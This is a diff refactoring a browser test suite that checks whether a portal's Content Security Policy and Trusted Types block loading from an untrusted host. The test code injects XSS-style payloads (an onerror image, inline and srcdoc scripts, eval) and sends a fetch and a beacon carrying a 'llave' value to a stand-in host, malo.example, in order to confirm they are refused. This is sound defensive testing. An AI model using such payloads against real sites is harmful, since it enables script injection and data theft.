@@ -13,7 +13,7 @@ declare global {
 }
 
 const adjust = (portal: Portal, clave: string, valor: unknown) =>
-  portal.base.sql('insert into configuracion (clave, valor) values (?, ?)', clave, JSON.stringify(valor));
+  portal.database.sql('insert into configuracion (clave, valor) values (?, ?)', clave, JSON.stringify(valor));
 
 /** Notes what the policy refuses from the first line of the page on. */
 const recordDenied = (page: Page) =>
@@ -49,7 +49,7 @@ test('pictures, flags, chat and radio of the configuration come; of any other si
     bandera: 'https://banderas.example/{pais}.svg',
   }))
     await adjust(portal, clave, valor);
-  const page = await portal.openBrowser(await portal.boss(), { withServiceWorkers: true });
+  const page = await portal.openBrowser(await portal.logInAsBoss(), { withServiceWorkers: true });
   await recordDenied(page);
   await page.goto('/');
   for (const sitio of ['https://logo.example:8443/', 'https://avatares.example/', 'https://banderas.example/'])
@@ -65,7 +65,7 @@ test('pictures, flags, chat and radio of the configuration come; of any other si
   portal.consoleGuard.allow(/Content Security Policy|trusted|TrustedHTML|Refused|malo\.example|violates/i);
   const headCheck = page.waitForResponse((r) => r.request().method() === 'HEAD');
   const errors = await page.evaluate(async () => {
-    const set = <K extends keyof HTMLElementTagNameMap>(
+    const addElement = <K extends keyof HTMLElementTagNameMap>(
       que: K,
       attributes: Partial<Record<'src' | 'href' | 'rel' | 'type' | 'data' | 'srcdoc', string>>,
     ) => {
@@ -74,23 +74,23 @@ test('pictures, flags, chat and radio of the configuration come; of any other si
       document.body.append(element);
       return element;
     };
-    set('img', { src: 'https://malo.example/a.png' });
-    set('iframe', { src: 'https://malo.example/' });
-    set('audio', { src: 'https://malo.example/a.wav' });
-    set('link', { rel: 'stylesheet', href: 'https://malo.example/a.css' });
-    set('base', { href: 'https://malo.example/' });
-    set('form', {}).setAttribute('style', 'color: red');
+    addElement('img', { src: 'https://malo.example/a.png' });
+    addElement('iframe', { src: 'https://malo.example/' });
+    addElement('audio', { src: 'https://malo.example/a.wav' });
+    addElement('link', { rel: 'stylesheet', href: 'https://malo.example/a.css' });
+    addElement('base', { href: 'https://malo.example/' });
+    addElement('form', {}).setAttribute('style', 'color: red');
     await fetch('https://malo.example/?llave=1').catch(() => undefined);
     navigator.sendBeacon('https://malo.example/', 'llave');
     const mark: string[] = [];
     Object.assign(window, { marca: mark });
-    const intentos: [string, () => unknown][] = [
-      ['object', () => set('object', { data: 'https://malo.example/a' })],
-      ['innerHTML', () => (set('div', {}).innerHTML = '<img src=x onerror="marca.push(1)">')],
-      ['onclick', () => set('div', {}).setAttribute('onclick', 'marca.push(2)')],
-      ['script src', () => set('script', { src: 'https://malo.example/a.js' })],
+    const attempts: [string, () => unknown][] = [
+      ['object', () => addElement('object', { data: 'https://malo.example/a' })],
+      ['innerHTML', () => (addElement('div', {}).innerHTML = '<img src=x onerror="marca.push(1)">')],
+      ['onclick', () => addElement('div', {}).setAttribute('onclick', 'marca.push(2)')],
+      ['script src', () => addElement('script', { src: 'https://malo.example/a.js' })],
       ['script', () => (document.createElement('script').textContent = 'marca.push(3)')],
-      ['srcdoc', () => set('iframe', { srcdoc: '<script>parent.marca.push(4)</script>' })],
+      ['srcdoc', () => addElement('iframe', { srcdoc: '<script>parent.marca.push(4)</script>' })],
       // biome-ignore lint/security/noGlobalEval: that it may not is what is shown
       ['eval', () => window.eval('marca.push(5)')],
       ['Function', () => new Function('marca.push(6)')()],
@@ -101,10 +101,10 @@ test('pictures, flags, chat and radio of the configuration come; of any other si
       ['politica', () => (window as any).trustedTypes.createPolicy('otra', { createHTML: (t: string) => t })],
     ];
     const allowed: string[] = [];
-    for (const [nombre, intento] of intentos)
+    for (const [nombre, attempt] of attempts)
       try {
         // What the browser's tools run by themselves may do more than the page.
-        await new Promise((hecho, denied) => setTimeout(() => (async () => intento())().then(hecho, denied)));
+        await new Promise((hecho, denied) => setTimeout(() => (async () => attempt())().then(hecho, denied)));
         allowed.push(nombre);
       } catch {
         // It was to be refused.
@@ -139,7 +139,7 @@ test('pictures, flags, chat and radio of the configuration come; of any other si
 test('a page that was open before the configuration changed learns that it is outdated, and shows the chat once it is loaded anew', async ({
   portal,
 }) => {
-  const boss = await portal.boss();
+  const boss = await portal.logInAsBoss();
   const page = await portal.openPage('/', boss);
   await recordDenied(page);
   portal.consoleGuard.allow(/Content Security Policy|violates/i);
@@ -153,7 +153,7 @@ test('a page that was open before the configuration changed learns that it is ou
 test('what the worker keeps never runs more than the portal lets: it has the rules of the last visit, and those of scripts at any time', async ({
   portal,
 }) => {
-  const boss = await portal.boss();
+  const boss = await portal.logInAsBoss();
   await adjust(portal, 'chat', CHAT);
   const page = await portal.openPage('/', boss, { withServiceWorkers: true });
   const rules = () =>
